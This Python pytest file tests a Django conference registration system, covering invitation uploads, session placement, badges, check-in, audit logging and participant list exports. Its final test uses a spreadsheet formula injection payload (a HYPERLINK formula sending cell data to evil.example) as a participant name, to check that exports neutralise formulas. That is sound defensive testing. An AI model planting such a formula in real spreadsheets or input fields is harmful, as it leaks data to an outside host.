import csv
import io
import random
from collections import Counter
from datetime import timedelta

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from pypdf import PdfReader

from innspill.analysis.placement import Balance
from innspill.common.models import AuditEvent, Task
from innspill.conferences.ics import ics_escape
from innspill.conferences.models import Session
from innspill.registrations.badges import badges_pdf
from innspill.registrations.lifecycle import registration_cancel
from innspill.registrations.models import Assignment, Invitation, Pin, Registration
from innspill.registrations.placement import placement_compute, placement_publish
from innspill.registrations.services import (
    RegistrationData,
    invitation_for_token,
    invitations_import,
    registration_submit,
    token_hash,
)
from innspill.registrations.tasks import purge_badge_files
from tests.registrations.factories import (
    block_sessions,
    make_conference,
    make_invitation,
    register,
    staff_user,
)


def test_csv_upload_keeps_good_rows_and_lists_bad_ones_by_line(client, db):
    conference = make_conference()
    staff = staff_user()
    client.force_login(staff)
    text = (
        "navn;e-post;organisasjon;språk\n"
        "Kari Nordmann;kari@example.org;Foreningen;nb\n"
        ";uten.navn@example.org;X;nb\n"
        "Ola;ikke-en-adresse;Y;en\n"
        "Per;per@example.org;Z;de\n"
        "Kari igjen;KARI@example.org;Foreningen;nb\n"
        "Jane Doe;jane@example.org;Org;en\n"
    )
    upload = SimpleUploadedFile("kontakter.csv", text.encode("utf-8"), content_type="text/csv")
    response = client.post(
        reverse("registrations:invitations", args=[conference.pk]), {"file-file": upload}
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert sorted(conference.invitations.values_list("email", flat=True)) == [
        "jane@example.org",
        "kari@example.org",
    ]
    assert "Linje 3: Navn mangler." in html
    assert "Linje 4: Ugyldig e-postadresse: «ikke-en-adresse»." in html
    assert "Linje 5: Ukjent språk: «de» (bruk nb, nn, en, se, ar, so, ti, uk, pl)." in html
    assert "Linje 6: kari@example.org er allerede invitert." in html
    assert sorted(m.subject.split(":")[0] for m in mail.outbox) == ["Invitasjon", "Invitation"]


def test_xlsx_upload(db):
    conference = make_conference()
    wb = Workbook()
    ws = wb.active
    ws.append(["Navn", "E-post", "Organisasjon"])
    ws.append(["Amina", "amina@example.org", "Innvandrerrådet"])
    ws.append(["Bjørn", None, "Kommunen"])
    buf = io.BytesIO()
    wb.save(buf)
    result = invitations_import(
        conference=conference,
        filename="liste.xlsx",
        data=buf.getvalue(),
        by=staff_user(),
    )
    assert [i.email for i in result.created] == ["amina@example.org"]
    assert [(e.line, e.message) for e in result.errors] == [(3, "Ugyldig e-postadresse: «».")]


def test_upload_without_header_is_one_error(db):
    conference = make_conference()
    result = invitations_import(
        conference=conference,
        filename="x.csv",
        data=b"a,b\n1,2\n",
        by=staff_user(),
    )
    assert (result.created, [e.line for e in result.errors]) == ([], [1])


def test_invite_one_person_and_revoke(client, db):
    conference = make_conference()
    client.force_login(staff_user())
    url = reverse("registrations:invitations", args=[conference.pk])
    response = client.post(
        url,
        {
            "one-name": "Kari",
            "one-email": "kari@example.org",
            "one-organisation_name": "",
            "one-language": "nb",
        },
    )
    assert response.status_code == 302
    again = client.post(
        url, {"one-name": "Kari", "one-email": "KARI@example.org", "one-language": "nb"}
    )
    assert "Denne adressen er allerede invitert." in again.content.decode()
    invitation = Invitation.objects.get()
    client.post(reverse("registrations:revoke", args=[invitation.pk]))
    invitation.refresh_from_db()
    assert invitation.revoked_at is not None
    mail.outbox.clear()
    client.post(reverse("registrations:resend", args=[invitation.pk]))
    invitation.refresh_from_db()
    assert invitation.revoked_at is None
    (message,) = mail.outbox
    token = message.body.split("/deltaker/i/")[1].split("/")[0]
    assert invitation_for_token(token) == invitation


@pytest.mark.parametrize("n", [1, 3])
def test_invitation_list_query_count(client, db, django_assert_num_queries, n):
    conference = make_conference()
    for _ in range(n):
        make_invitation(conference)
    client.force_login(staff_user())
    # session, user, roles, conference, counts, list
    # one of the queries loads the session's second-factor device (django-otp)
    with django_assert_num_queries(7):
        response = client.get(reverse("registrations:invitations", args=[conference.pk]))
    assert response.content.decode().count("Trekk tilbake<span") == n


@pytest.mark.parametrize("n", [1, 3])
def test_registration_list_query_count(client, db, django_assert_num_queries, n):
    conference = make_conference()
    for _ in range(n):
        register(conference, dietary="halal")
    client.force_login(staff_user())
    # one of the queries loads the session's second-factor device (django-otp)
    with django_assert_num_queries(7):
        response = client.get(reverse("registrations:registrations", args=[conference.pk]))
    assert response.content.decode().count("<td>halal</td>") == n


@pytest.mark.parametrize("n", [1, 3])
def test_checkin_search_query_count(client, db, django_assert_num_queries, n):
    conference = make_conference()
    for i in range(n):
        register(conference, name=f"Søkbar {i}")
    register(conference, name="Annen")
    client.force_login(staff_user())
    # one of the queries loads the session's second-factor device (django-otp)
    with django_assert_num_queries(7):
        response = client.get(
            reverse("registrations:checkin", args=[conference.pk]), {"q": "søkbar"}
        )
    html = response.content.decode()
    assert html.count('name="registration"') == n
    assert f"0 av {n + 1} påmeldte har kommet." in html


def skewed_day(seed: int = 2018):
    """The 2018-style day: 8 parallel sessions × 30 seats, 250 invited, 225 registered, skewed wishes."""
    conference = make_conference(capacity=240, sessions=8, seats=30)
    sessions = block_sessions(conference)
    block = sessions[0].block_id
    rng = random.Random(seed)
    weights = [30, 22, 10, 6, 4, 3, 2, 1]  # a few popular sessions
    invitations = [make_invitation(conference)[0] for _ in range(250)]
    types = ["innvandrerorganisasjon", "kommune", "frivillig_organisasjon", "statlig_etat"]
    for invitation in invitations[:225]:
        wishes: list[int] = []
        while len(wishes) < 3:
            s = rng.choices(sessions, weights=weights)[0]
            if s.pk not in wishes:
                wishes.append(s.pk)
        registration_submit(
            invitation=invitation,
            data=RegistrationData(
                name=invitation.name,
                organisation_name=invitation.organisation_name,
                organisation_type=rng.choice(types),
                wishes={block: wishes},
            ),
        )
    return conference, sessions


@pytest.mark.slow
def test_placement_beats_first_come_first_served_on_a_skewed_day(client, db):
    conference, sessions = skewed_day()
    staff = staff_user()
    run = placement_compute(conference=conference, by=staff)
    (block,) = run.summary
    stats, fcfs = block["stats"], block["fcfs"]
    assignments = list(Assignment.objects.filter(run=run))
    assert len(assignments) == 225
    assert max(Counter(a.session_id for a in assignments).values()) <= 30
    # The stored ranks agree with the stored statistics.
    ranks = Counter(str(a.rank) if a.rank else "none" for a in assignments)
    assert {k: v for k, v in stats["rank_counts"].items() if v} == dict(ranks)
    assert stats["total_cost"] < fcfs["total_cost"]
    # k² costs trade a few first wishes for far fewer people outside their wishes.
    assert stats["wish_share"] > fcfs["wish_share"]
    assert stats["rank_counts"]["none"] < fcfs["rank_counts"]["none"]
    client.force_login(staff)
    html = client.get(reverse("registrations:placement", args=[conference.pk])).content.decode()
    assert f"<td>{stats['total_cost']}</td><td>{fcfs['total_cost']}</td>" in html
    assert html.count('class="chart"') == 1


def test_pins_and_balance_are_respected(client, db):
    conference = make_conference(sessions=2, seats=2)
    s1, s2 = block_sessions(conference)
    people = [
        register(
            conference,
            wishes={s1.block_id: [s1.pk]},
            organisation_type="kommune" if i % 2 else "frivillig_organisasjon",
        )
        for i in range(4)
    ]
    Pin.objects.create(registration=people[3], block_id=s2.block_id, session=s2)
    run = placement_compute(
        conference=conference, by=staff_user(), balance=Balance(organisation_type=5.0)
    )
    placed = dict(Assignment.objects.filter(run=run).values_list("registration_id", "session_id"))
    assert placed[people[3].pk] == s2.pk
    assert Counter(placed.values()) == {s1.pk: 2, s2.pk: 2}
    without = run.summary[0]["without_balance"]
    assert without["total_cost"] <= run.summary[0]["stats"]["total_cost"]
    client.force_login(staff_user())
    html = client.get(reverse("registrations:placement", args=[conference.pk])).content.decode()
    assert "Kostnad hvis balanse ikke var valgt" in html


def test_publish_shows_session_and_sends_mail_and_closes_changes(client, db):
    conference = make_conference(sessions=2, seats=5)
    s1, s2 = block_sessions(conference)
    Session.objects.create(
        conference=conference,
        kind="plenary",
        title="Åpning, velkommen",
        starts_at=s1.starts_at - timedelta(hours=1),
    )
    invitation, token = make_invitation(conference, language="en")
    registration, _ = registration_submit(
        invitation=invitation,
        data=RegistrationData(
            name="Jane", organisation_name="Org", wishes={s1.block_id: [s2.pk, s1.pk]}
        ),
    )
    staff = staff_user()
    run = placement_compute(conference=conference, by=staff)
    url = reverse("registrations:participant", args=[token])
    # The invitation was sent in English, so its link opens the participant page in English.
    assert s2.title not in client.get(url).content.decode().split("Your choices")[0]
    mail.outbox.clear()
    assert placement_publish(run=run, by=staff) == 1
    assert mail.outbox[0].subject == f"Your sessions: {conference.title}"
    assert "- Parallel session 2: Tema 1.2, at noon–1 p.m., room Rom 2\n" in mail.outbox[0].body
    html = client.get(url).content.decode()
    assert (
        f'<span class="my-session">Parallel session 2: <span lang="nb" dir="ltr">{s2.title}</span>'
        ' <span class="content-fallback">(in Norwegian Bokmål)</span></span>'
    ) in html
    ics = client.get(reverse("registrations:calendar", args=[token])).content.decode()
    summaries = [line for line in ics.split("\r\n") if line.startswith("SUMMARY:")]
    assert summaries == ["SUMMARY:Åpning\\, velkommen", f"SUMMARY:{ics_escape(str(s2))}"]
    # Cancelling stays possible after placement (issue 17 item 2).
    assert reverse("registrations:cancel", args=[token]) in html


def test_participant_lists_badges_and_checkin(client, db):
    conference = make_conference(sessions=2, seats=5)
    s1, s2 = block_sessions(conference)
    people = [
        register(conference, name=name, wishes={s1.block_id: [s1.pk]})
        for name in ("Åse Øvrebø", "Bashir Ali", "Chen Li")
    ]
    staff = staff_user()
    run = placement_compute(conference=conference, by=staff)
    placement_publish(run=run, by=staff)
    client.force_login(staff)
    url = reverse("registrations:participant-list", args=[conference.pk, s1.pk, "csv"])
    rows = list(csv.reader(io.StringIO(client.get(url).content.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["Navn", "Organisasjon", "Sosialt samvær", "Sjekket inn"]] + [
        [p.name, p.organisation_name, "nei", ""] for p in sorted(people, key=lambda p: p.name)
    ]
    url = reverse("registrations:participant-list", args=[conference.pk, s1.pk, "xlsx"])
    sheet = load_workbook(io.BytesIO(client.get(url).content)).active
    assert [row[0] for row in sheet.iter_rows(values_only=True)] == [
        "Navn",
        "Bashir Ali",
        "Chen Li",
        "Åse Øvrebø",
    ]
    pdf = client.get(reverse("registrations:badges", args=[conference.pk]))
    assert pdf["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(pdf.content))
    assert len(reader.pages) == 3
    text = "\n".join(page.extract_text() for page in reader.pages)
    for p in people:
        assert p.name in text
        assert p.organisation_name in text
    assert s1.title in text
    # Check-in by the badge's QR URL, then by search.
    code_url = reverse("registrations:checkin-code", args=[people[0].badge_code])
    assert client.get(code_url).status_code == 200
    client.post(code_url)
    response = client.post(
        reverse("registrations:checkin", args=[conference.pk]),
        {"registration": people[1].pk, "q": "Bashir Ali & co"},
    )
    assert response["Location"].endswith("?q=Bashir+Ali+%26+co")
    came = Registration.objects.filter(checked_in_at__isnull=False)
    assert sorted(came.values_list("name", flat=True)) == ["Bashir Ali", "Åse Øvrebø"]
    html = client.get(reverse("registrations:checkin", args=[conference.pk])).content.decode()
    assert "2 av 3 påmeldte har kommet." in html
    fragment = client.get(
        reverse("registrations:checkin", args=[conference.pk]),
        {"q": "chen"},
        HTTP_HX_REQUEST="true",
    ).content.decode()
    assert "<html" not in fragment
    assert fragment.count('name="registration"') == 1
    assert client.get(reverse("registrations:checkin-code", args=["ukjent"])).status_code == 404


def test_badge_pdf_qr_encodes_checkin_url(db):
    conference = make_conference()
    register(conference)
    seen = []
    pdf = badges_pdf(conference=conference, url_for=lambda code: seen.append(code) or f"/x/{code}")
    assert pdf.startswith(b"%PDF")
    assert seen == list(Registration.objects.values_list("badge_code", flat=True))


def test_token_hash_is_sha256_hex():
    assert token_hash("abc") == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"


def test_badges_in_the_background_and_old_files_purged(client, db, settings, tmp_path):
    settings.VAR_DIR = tmp_path
    conference = make_conference()
    names = ["Dina", "Erik"]
    for name in names:
        register(conference, name=name)
    client.force_login(staff_user())
    response = client.post(reverse("registrations:badges-start", args=[conference.pk]))
    task = Task.objects.get(kind="badges")
    assert response["Location"] == reverse("accounts:task-detail", args=[task.pk])
    assert (task.status, task.done, task.total, task.result["pages"]) == ("done", 2, 2, 2)
    pdf = client.get(task.result["next_url"])
    reader = PdfReader(io.BytesIO(b"".join(pdf.streaming_content)))
    assert len(reader.pages) == 2
    assert [n in reader.pages[i].extract_text() for i, n in enumerate(names)] == [True, True]
    assert purge_badge_files() == 0
    later = timezone.now() + timedelta(days=settings.INNSPILL["PERSONAL_DATA_RETENTION_DAYS"] + 1)
    assert purge_badge_files(now=later) == 1
    assert client.get(task.result["next_url"]).status_code == 404


@pytest.mark.parametrize("n", [1, 3])
def test_placement_page_query_count(client, db, django_assert_num_queries, n):
    conference = make_conference(sessions=n)
    sessions = block_sessions(conference)
    people = [register(conference, wishes={sessions[0].block_id: [s.pk]}) for s in sessions]
    Pin.objects.create(registration=people[0], block_id=sessions[0].block_id, session=sessions[0])
    staff = staff_user()
    placement_compute(conference=conference, by=staff)
    client.force_login(staff)
    # session, user, roles, conference, latest run, stale count, pins, registrations, sessions,
    # changes after publication; one loads the session's second-factor device (django-otp)
    with django_assert_num_queries(11):
        response = client.get(reverse("registrations:placement", args=[conference.pk]))
    assert response.content.decode().count("CSV med semikolon</a>") == n


@pytest.mark.parametrize("n", [1, 3])
def test_participant_page_query_count(client, db, django_assert_num_queries, n):
    conference = make_conference(sessions=n)
    sessions = block_sessions(conference)
    invitation, token = make_invitation(conference)
    registration_submit(
        invitation=invitation,
        data=RegistrationData(
            name="A", organisation_name="B", wishes={sessions[0].block_id: [s.pk for s in sessions]}
        ),
    )
    # invitation, registration with needs, wishes, published assignments
    # two of the queries count the address and the link (innspill.limits)
    with django_assert_num_queries(6):
        response = client.get(reverse("registrations:participant", args=[token]))
    assert response.content.decode().count("<li>Parallellblokk 1: ") == n


def test_publish_skips_cancelled_and_page_warns_about_newcomers(client, db):
    conference = make_conference(sessions=2, seats=5)
    s1, _s2 = block_sessions(conference)
    stays, leaves = (register(conference, wishes={s1.block_id: [s1.pk]}) for _ in range(2))
    staff = staff_user()
    run = placement_compute(conference=conference, by=staff)
    registration_cancel(registration=leaves)
    register(conference)
    client.force_login(staff)
    html = client.get(reverse("registrations:placement", args=[conference.pk])).content.decode()
    assert "1 påmeldt er ikke med i denne beregningen." in html
    mail.outbox.clear()
    assert placement_publish(run=run, by=staff) == 1
    assert [m.to for m in mail.outbox] == [[stays.invitation.email]]


def test_staff_cancel_promotes_from_the_waiting_list(
    client, db, django_capture_on_commit_callbacks
):
    conference = make_conference(capacity=1)
    first, waiting = register(conference, name="Først"), register(conference, name="Venter")
    client.force_login(staff_user())
    html = client.get(reverse("registrations:registrations", args=[conference.pk])).content
    assert "Venteliste (nr. 1)" in html.decode()
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("registrations:staff-cancel", args=[first.pk]), follow=True)
    assert "Først er meldt av. Venter fikk plassen fra ventelisten." in response.content.decode()
    waiting.refresh_from_db()
    assert waiting.status == "confirmed"
    assert [m.to for m in mail.outbox] == [[waiting.invitation.email]]


def test_staff_pin_replaces_the_block_pin_and_is_audited(client, db):
    conference = make_conference(sessions=2)
    s1, s2 = block_sessions(conference)
    person = register(conference, wishes={s1.block_id: [s1.pk]})
    staff = staff_user()
    client.force_login(staff)
    url = reverse("registrations:pin", args=[conference.pk])
    client.post(url, {"registration": person.pk, "session": s1.pk})
    response = client.post(url, {"registration": person.pk, "session": s2.pk})
    assert response.status_code == 302
    assert list(Pin.objects.values_list("registration_id", "block_id", "session_id")) == [
        (person.pk, s2.block_id, s2.pk)
    ]
    events = AuditEvent.objects.filter(action="placement.pin").order_by("pk")
    assert [(e.target, e.details["session"], e.user_id) for e in events] == [
        (str(person.pk), s1.pk, staff.pk),
        (str(person.pk), s2.pk, staff.pk),
    ]
    run = placement_compute(conference=conference, by=staff)
    assert list(run.assignments.values_list("registration_id", "session_id")) == [
        (person.pk, s2.pk)
    ]


def test_every_cancel_is_audited_with_who_did_it(client, db):
    conference = make_conference()
    by_staff, by_self = register(conference), register(conference)
    staff = staff_user()
    client.force_login(staff)
    client.post(reverse("registrations:staff-cancel", args=[by_staff.pk]))
    registration_cancel(registration=by_self)
    events = AuditEvent.objects.filter(action="registration.cancel").order_by("pk")
    assert [(e.target, e.user_id) for e in events] == [
        (str(by_staff.pk), staff.pk),
        (str(by_self.pk), None),
    ]


def test_participant_lists_never_carry_a_formula(client, db):
    conference = make_conference(sessions=2, seats=5)
    s1, _s2 = block_sessions(conference)
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"klikk")'
    register(conference, name=hostile, wishes={s1.block_id: [s1.pk]})
    staff = staff_user()
    placement_publish(run=placement_compute(conference=conference, by=staff), by=staff)
    client.force_login(staff)
    url = reverse("registrations:participant-list", args=[conference.pk, s1.pk, "csv"])
    rows = list(csv.reader(io.StringIO(client.get(url).content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][0] == "'" + hostile
    url = reverse("registrations:participant-list", args=[conference.pk, s1.pk, "xlsx"])
    cell = load_workbook(io.BytesIO(client.get(url).content)).active["A2"]
    assert (cell.value, cell.data_type) == (hostile, "s")
